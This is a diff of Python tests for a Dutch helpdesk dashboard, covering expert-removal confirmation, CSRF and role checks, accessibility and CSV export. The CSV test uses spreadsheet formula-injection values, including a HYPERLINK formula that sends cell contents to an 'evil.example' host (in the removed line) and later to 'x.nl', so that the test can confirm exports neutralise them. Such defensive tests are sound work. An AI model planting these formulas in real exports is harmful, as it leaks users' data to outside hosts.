@@ -235,7 +235,7 @@ async def test_every_form_needs_the_csrf_token(web: Web) -> None:
 
 async def test_security_headers_and_no_inline_script(web: Web) -> None:
     await web.login(ADMIN)
-    for path in ["/dashboard/how", *PAGES[1:-1]]:
+    for path in ["/dashboard/how", *PAGES[1:-1], f"/dashboard/experts/{EXPERT}/remove"]:
         resp = await web.client.get(path)
         assert resp.status == 200, path
         csp = resp.headers["Content-Security-Policy"]
@@ -280,11 +280,94 @@ async def test_admin_pauses_and_removes_an_expert_whose_conversation_is_requeued
     csrf = await web.csrf()
     await web.client.post(f"/dashboard/experts/{EXPERT}/pause", data={"csrf": csrf})
     assert not (await web.desk.experts.get(EXPERT)).available
-    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove", data={"csrf": csrf})
+    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove",
+                                 data={"csrf": csrf, "confirm": "1"})
     assert resp.status == 200 and not await web.desk.experts.is_expert(EXPERT)
     assert [t.id for t in await web.desk.handoff.queue()] == [ticket.id]
     assert (await web.client.post("/dashboard/experts/999/remove",
-                                  data={"csrf": csrf})).status == 404
+                                  data={"csrf": csrf, "confirm": "1"})).status == 404
+    assert (await web.client.get("/dashboard/experts/999/remove")).status == 404
+
+
+async def test_removing_an_expert_takes_a_confirmation(web: Web) -> None:
+    ticket = await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
+    assert await web.desk.handoff.claim(ticket.id, EXPERT, 3) == "ok"
+    await web.login(ADMIN)
+    page = await (await web.client.get("/dashboard/experts")).text()
+    # The table's "Verwijderen" only opens the confirmation; no form there removes anyone.
+    assert f'action="/dashboard/experts/{EXPERT}/remove"' not in page
+    assert re.search(rf'<a [^>]*href="/dashboard/experts/{EXPERT}/remove">Verwijderen'
+                     r'<span class="visually-hidden"> Marieke</span></a>', page)
+    confirm = await (await web.client.get(f"/dashboard/experts/{EXPERT}/remove")).text()
+    assert "<h1>Marieke uit de pool verwijderen?</h1>" in confirm
+    assert ("1 gesprek van deze expert gaat terug naar de wachtrij; de vraagsteller krijgt "
+            "bericht.") in confirm
+    assert ">Marieke verwijderen</button>" in confirm and ">Annuleren</a>" in confirm
+    csrf = await web.csrf()
+    # A post without the confirmation (an old page, a double click) removes nobody.
+    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove", data={"csrf": csrf},
+                                 allow_redirects=False)
+    assert resp.status == 303
+    assert resp.headers["Location"] == f"/dashboard/experts/{EXPERT}/remove"
+    assert await web.desk.experts.is_expert(EXPERT) and not await web.desk.handoff.queue()
+    # An expert cannot even see the confirmation page; the service decides who may remove.
+    web.client.session.cookie_jar.clear()
+    await web.login(EXPERT)
+    assert (await web.client.get(f"/dashboard/experts/{EXPERT}/remove")).status == 403
+    resp = await web.client.post(f"/dashboard/experts/{EXPERT}/remove",
+                                 data={"csrf": await web.csrf(), "confirm": "1"})
+    assert resp.status == 403 and await web.desk.experts.is_expert(EXPERT)
+
+
+ADMIN_PAGES = ["/dashboard/queue", "/dashboard/summaries", "/dashboard/trends",
+               "/dashboard/knowledge", "/dashboard/experts", f"/dashboard/experts/{EXPERT}/remove"]
+
+
+async def test_every_page_has_its_own_title_and_focusable_labelled_scroll_regions(
+    web: Web,
+) -> None:
+    await web.desk.handoff.open(5001, "nl", "family", "jeugdhulp", "Utrecht", False)
+    await web.desk.trends.answered(5002, "family", "professional", "nl", False, None)
+    await add_summaries(web, [{}])
+    titles = {}
+    for path in ("/dashboard/how", "/dashboard/login?t=x"):
+        titles[path] = re.search(r"<title>(.*)</title>", await (await web.client.get(path))
+                                 .text()).group(1)
+    await web.login(ADMIN)
+    for path in ADMIN_PAGES:
+        page = await (await web.client.get(path)).text()
+        titles[path] = re.search(r"<title>(.*)</title>", page).group(1)
+        for region in re.findall(r'<div class="scroll"[^>]*>', page):
+            assert 'tabindex="0"' in region and 'role="region"' in region, (path, region)
+            labelled = re.search(r'aria-labelledby="([^"]+)"', region).group(1)
+            assert re.search(rf'<h\d id="{labelled}">[^<]+</h\d>', page), (path, labelled)
+    assert titles["/dashboard/queue"] == "Wachtrij (live) · Vraagbaak-dashboard"
+    assert titles[f"/dashboard/experts/{EXPERT}/remove"] == (
+        "Expert verwijderen · Vraagbaak-dashboard")
+    assert len(set(titles.values())) == len(titles), titles
+    trends = await (await web.client.get("/dashboard/trends")).text()
+    downloads = re.findall(r'<a href="/dashboard/trends\.csv[^"]*">([^<]+)</a>', trends)
+    assert len(downloads) == 5 == len(set(downloads)), downloads
+    assert "CSV downloaden: Vragen per onderwerp per week" in downloads, downloads
+
+
+async def test_summaries_in_another_language_are_marked_as_such(web: Web) -> None:
+    await add_summaries(web, [{"summary": "Advice given about online hate.", "lang": "en",
+                               "comment": "Very helpful."},
+                              {"summary": "Advies gegeven over de klas."}])
+    await web.login(EXPERT)
+    page = await (await web.client.get("/dashboard/summaries")).text()
+    assert '<html lang="nl">' in page
+    assert '<p lang="en">Advice given about online hate.</p>' in page
+    assert '<p class="comment" lang="en">Very helpful.</p>' in page
+    assert "<p>Advies gegeven over de klas.</p>" in page
+
+
+def cell(row: str, label: str) -> str:
+    """The text of a table row's cell under a column (its data-label, shown on a phone)."""
+    found = re.search(rf'<td data-label="{re.escape(label)}"[^>]*>(.*?)</td>', row, re.S)
+    assert found, (label, row)
+    return re.sub(r"<[^>]+>", "", found.group(1)).strip()
 
 
 async def add_summaries(web: Web, rows: list[dict]) -> None:
@@ -323,7 +406,7 @@ async def test_summaries_filter_and_search(web: Web) -> None:
 
 
 async def test_dashboard_csv_downloads_neutralise_formulas(web: Web) -> None:
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
+    formula = '=HYPERLINK("http://x.nl/?"&A1,"Klik")'  # a province is at most 40 long
     await add_summaries(web, [{"province": formula, "sector": "@SUM(1+1)"}])
     await web.login(EXPERT)
     for table, label in (("provinces", formula), ("sectors", "@SUM(1+1)")):
@@ -338,7 +421,8 @@ async def test_experts_page_shows_conversations_time_to_claim_and_rating(web: We
     await web.login(ADMIN)
     page = await (await web.client.get("/dashboard/experts")).text()
     row = page[page.index("Marieke"):page.index("</tr>", page.index("Marieke"))]
-    assert "<td>2</td>" in row and "15 min" in row and "4.5" in row
+    assert cell(row, "Afgesloten") == "2" and cell(row, "Gem. tijd tot oppakken") == "15 min"
+    assert cell(row, "Gem. waardering") == "4.5"
 
 
 async def test_knowledge_page_counts_served_votes_and_handoffs(web: Web) -> None:
@@ -350,9 +434,11 @@ async def test_knowledge_page_counts_served_votes_and_handoffs(web: Web) -> None
     await web.desk.feedback.record(sid, False)
     await web.login(EXPERT)
     page = await (await web.client.get("/dashboard/knowledge")).text()
-    row = page[page.index(sid) - 300:page.index("</tr>", page.index(sid))]
-    assert "<td>6</td>" in row and "<td>0</td><td>1</td>" in row and "1 (17%)" in row
-    assert 'class="weak"' in row
+    row = page[page.rindex("<tr", 0, page.index(sid)):page.index("</tr>", page.index(sid))]
+    assert cell(row, "Getoond") == "6" and cell(row, "Helpt") == "0"
+    assert cell(row, "Helpt niet") == "1" and cell(row, "Daarna naar expert") == "1 (17%)"
+    # Weak in words, not only by the row's tint.
+    assert 'class="weak"' in row and '<span class="tag weak-tag">zwak</span>' in row
 
 
 async def test_migrations_reach_the_newest_revision(web: Web) -> None:
